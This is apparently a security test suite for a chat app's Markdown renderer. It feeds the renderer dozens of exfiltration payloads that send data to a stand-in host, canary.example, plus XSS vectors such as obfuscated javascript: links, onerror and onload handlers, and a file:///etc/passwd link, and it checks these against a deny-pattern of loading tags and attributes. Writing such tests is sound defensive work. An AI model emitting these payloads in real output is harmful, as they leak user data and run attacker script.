import { NextIntlClientProvider } from "next-intl";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import common from "../../messages/en/common.json";
import messages from "../../messages/en/markdown.json";
import { Markdown } from "./markdown";

type Shipped = NonNullable<React.ComponentProps<typeof NextIntlClientProvider>["messages"]>;

function render(text: string, props: Partial<React.ComponentProps<typeof Markdown>> = {}): string {
  return renderToStaticMarkup(
    <NextIntlClientProvider locale="en" timeZone="UTC" messages={{ markdown: messages, common } as unknown as Shipped}>
      <Markdown text={text} {...props} />
    </NextIntlClientProvider>,
  );
}

/** Attributes through which a browser fetches something or runs code. */
const LOADING =
  /<(?:img|image|iframe|frame|object|embed|script|link|style|video|audio|source|track|picture|base|meta|form|input|use|svg:use)\b|\s(?:src|srcset|poster|ping|background|action|formaction|data|style|xlink:href|on\w+)\s*=/i;

const CANARY = "https://canary.example/leak?d=secret";

const EXFILTRATION = [
  `![x](${CANARY})`,
  `![x][r]\n\n[r]: ${CANARY}`,
  `![](${CANARY} "title")`,
  `[![x](${CANARY})](${CANARY})`,
  `<img src="${CANARY}">`,
  `<img srcset="${CANARY} 1x">`,
  `<picture><source srcset="${CANARY}"><img></picture>`,
  `<p style="background:url(${CANARY})">x</p>`,
  `<style>@import "${CANARY}";</style>`,
  `<svg><image href="${CANARY}"/></svg>`,
  `<svg><use href="${CANARY}#a"/></svg>`,
  `<link rel="stylesheet" href="${CANARY}">`,
  `<link rel="dns-prefetch" href="${CANARY}">`,
  `<iframe src="${CANARY}"></iframe>`,
  `<iframe srcdoc="<img src=${CANARY}>"></iframe>`,
  `<video poster="${CANARY}"></video>`,
  `<audio src="${CANARY}"></audio>`,
  `<object data="${CANARY}"></object>`,
  `<embed src="${CANARY}">`,
  `<form action="${CANARY}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}">`,
  `<base href="${CANARY}">`,
  `<a href="#" ping="${CANARY}">x</a>`,
  `<script src="${CANARY}"></script>`,
  `<body background="${CANARY}">`,
  `text <img src=${CANARY}> text`,
  `| a |\n|---|\n| ![x](${CANARY}) |`,
  `- ![x](${CANARY})`,
  `> ![x](${CANARY})`,
  `# ![x](${CANARY})`,
  `[^1]\n\n[^1]: ![x](${CANARY})`,
  `$\\includegraphics{${CANARY}}$`,
  `$\\href{${CANARY}}{x}$`,
  "![x](//canary.example/leak)",
  "![x](/\\canary.example/leak)",
  "![x](\\\\canary.example\\leak)",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![x](data:text/html,<script>alert(1)</script>)",
  "![x](/api/v1/auth/sign-out)",
  "![x](/api/v1/files/../auth/sign-out)",
];

const SCRIPTS = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:x)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:https://a.example/1)",
  "[x](file:///etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>",
  "<svg onload=alert(1)>",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```ts title="<img src=x onerror=alert(1)>"\nx\n```',
  "`<img src=x onerror=alert(1)>`",
];

/** The document without the escaped text between its tags. */
const tagsOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join("\n");

describe("Markdown security", () => {
  it.each(EXFILTRATION)("requests nothing by itself: %s", (text) => {
    expect(tagsOf(render(text))).not.toMatch(LOADING);
  });

  it.each(SCRIPTS)("never makes a runnable link or handler: %s", (text) => {
    const tags = tagsOf(render(text));
    expect(tags).not.toMatch(LOADING);
    expect(tags).not.toMatch(/href="(?!https?:|mailto:|\/(?!\/)|#)/i);
  });

  it.each(EXFILTRATION)("requests nothing while it is being written: %s", (text) => {
    for (let end = 1; end <= text.length; end += 3) {
      expect(tagsOf(render(text.slice(0, end), { streaming: true }))).not.toMatch(LOADING);
    }
  });

  it("opens external links without referrer and keeps internal ones relative", () => {
    expect(render("[a](https://a.example/x)")).toContain(
      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    );
    expect(render("[a](/settings)")).toContain('<a href="/settings">a</a>');
  });

  it("does not turn entities into markup", () => {
    expect(render("&lt;script&gt;alert(1)&lt;/script&gt;")).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("shows our own files and written-out pictures", () => {
    expect(render("![plot](/api/v1/files/0192-ab/content)")).toContain('src="/api/v1/files/0192-ab/content"');
    expect(render("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
  });

  it("survives thousands of nested quotes", () => {
    expect(render(`${">".repeat(20_000)} x`)).toContain("x");
    expect(render(`${"[".repeat(5_000)}x`)).toContain("x");
    expect(render(`${"- ".repeat(500)}x`)).toContain("x");
  });
});

describe("Markdown rendering", () => {
  it("shows raw HTML as text", () => {
    expect(render("a <b>b</b>")).toContain("a &lt;b&gt;b&lt;/b&gt;");
  });

  it("makes numbered marks of known sources only", () => {
    const html = render("Fact. [1] [7]", { citations: [{ number: 1, title: "Log", url: "https://a.example" }] });
    expect(html).toContain('aria-label="Source 1: Log"');
    expect(html).toContain("[7]");
  });

  it("leaves amounts of money alone and finds formulas", () => {
    expect(render("It costs $5 or $6.")).not.toContain("math-inline");
    expect(render("Then $a + b$ follows.")).toContain("math-inline");
    expect(render("$$\na^2\n$$")).toContain("math-block");
  });

  it("completes marks at the end while streaming", () => {
    expect(render("some **bold", { streaming: true })).toContain("<strong>bold</strong>");
    expect(render("see [the do", { streaming: true })).not.toContain("[");
  });

  it.each([
    ["a list", "- one\n\n  ```mermaid\n  graph TD"],
    ["a quote in a list", "1. one\n2. two\n   > ```mermaid\n   > graph TD"],
  ])("offers and draws a code block in %s when it is complete, not before", (_, text) => {
    const open = (written: string) => render(written, { streaming: true, onOpenCode: () => undefined });
    expect(open(text)).not.toContain(messages.open);
    expect(open(`${text}\n\nAfter it.\n`)).toContain(messages.open);
  });

  it.each(["- [x] one\n- [ ] two", "- [x] one\n\n- [ ] two"])("shows the boxes of tasks as such: %j", (text) => {
    const html = render(text);
    expect(html.split('class="task-mark"')).toHaveLength(3);
    expect(html).not.toMatch(/\[[x ]\]/);
  });

  it("starts headings below those of the page", () => {
    expect(render("# One")).toContain('<h3 data-depth="1">One</h3>');
  });
});
